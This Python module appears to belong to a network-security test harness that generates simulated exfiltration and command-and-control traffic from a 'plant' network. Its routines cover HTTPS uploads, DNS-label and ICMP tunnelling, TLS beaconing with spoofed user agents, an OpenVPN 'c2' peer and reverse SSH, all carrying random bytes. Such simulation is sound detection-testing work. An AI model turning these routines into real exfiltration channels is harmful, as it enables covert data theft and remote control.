"""Out of the plant: HTTPS, names that carry data, echo requests that carry data, beacons, tunnels."""

import base64
import http.client
import os
import socket
import ssl
import struct
import subprocess
import time

from ..serve.dns import question


def https(life, step):
    """Uploads `bytes` (at most 4 MB) to `to` in a few requests."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    left = min(step.get("bytes", 400000), 4 << 20)
    while left > 0:
        n = min(left, 150000)
        c = http.client.HTTPSConnection(life.address(step["to"]), step.get("port", 443), timeout=8, context=ctx)
        c.request("POST", "/u", body=os.urandom(n), headers={"User-Agent": "curl/8.1"})
        c.getresponse().read()
        c.close()
        left -= n


def dns(life, step):
    """Data in long labels below one name, to a name server outside or through the plant's own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        for n in range(min(step.get("count", 200), 1000)):
            data = base64.b32encode(os.urandom(70)).decode().rstrip("=").lower()
            name = f"{data[:56]}.{data[56:112]}.{n:x}.{step.get('domain', 'cdn-sync.example')}"
            s.sendto(question(name, 16, n & 0xFFFF), (life.address(step["to"]), 53))
            try:
                s.recv(2048)
            except TimeoutError:
                pass
            time.sleep(step.get("every", 0.05))


def checksum(b):
    total = sum(struct.unpack(f">{len(b) // 2}H", b))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def icmp(life, step):
    """Echo requests whose payload is not what a ping sends."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        for n in range(min(step.get("count", 120), 1000)):
            body = os.urandom(step.get("bytes", 900) & ~1)
            head = struct.pack(">BBHHH", 8, 0, 0, 0x4242, n)
            s.sendto(struct.pack(">BBHHH", 8, 0, checksum(head + body), 0x4242, n) + body, (life.address(step["to"]), 0))
            time.sleep(step.get("every", 0.05))


def beacon(life, step):
    """A small exchange over TLS again and again, every so many seconds."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    for _ in range(min(step.get("count", 12), 100)):
        c = http.client.HTTPSConnection(life.address(step["to"]), 443, timeout=4, context=ctx)
        c.request("GET", "/", headers={"User-Agent": "Mozilla/5.0"})
        c.getresponse().read()
        c.close()
        time.sleep(step.get("every", 3))


def vpn(life, step):
    """A real OpenVPN peer; with --dev null it builds the tunnel and changes no route of the host."""
    subprocess.run(["timeout", str(min(step.get("seconds", 15), 60)), "openvpn", "--dev", "null", "--tls-client", "--remote",
                    life.address(step["to"]), "1194", "udp", "--ca", f"{life.certs}/ca.crt", "--cert", f"{life.certs}/c2.crt",
                    "--key", f"{life.certs}/c2.pem", "--nobind", "--ping", "2", "--verb", "0"], capture_output=True)


def remote_shell(life, step):
    """SSH out of the plant on a port that is not SSH's, with a way back in (remote forwarding)."""
    import asyncio

    import asyncssh

    async def go():
        async with asyncssh.connect(life.address(step["to"]), step.get("port", 8443), username="tunnel", password="tunnel",
                                    known_hosts=None, client_keys=None, client_version="OpenSSH_for_Windows_8.6") as c:
            for _ in range(min(step.get("count", 10), 60)):
                await c.run("keepalive")
                await asyncio.sleep(0.8)
    asyncio.run(go())


def web(life, step):
    """Plain requests: `to`, `path`, `times`, optional `login`."""
    for _ in range(min(step.get("times", 1), 50)):
        c = http.client.HTTPConnection(life.address(step["to"]), step.get("port", 80), timeout=5)
        headers = {"User-Agent": "Mozilla/5.0"}
        if step.get("login"):
            headers["Authorization"] = "Basic " + base64.b64encode(step["login"].encode()).decode()
        c.request(step.get("method", "GET"), step.get("path", "/"), body=step.get("body"), headers=headers)
        c.getresponse().read()
        c.close()
        time.sleep(step.get("every", 1))


def tls(life, step):
    """Opens TLS, reads a page, closes; the certificate may be what it wants."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    for _ in range(min(step.get("times", 1), 50)):
        with socket.create_connection((life.address(step["to"]), step.get("port", 443)), timeout=4) as raw:
            with ctx.wrap_socket(raw, server_hostname=step.get("name", step["to"])) as s:
                s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                while s.recv(4096):
                    pass
        time.sleep(step.get("every", 2))
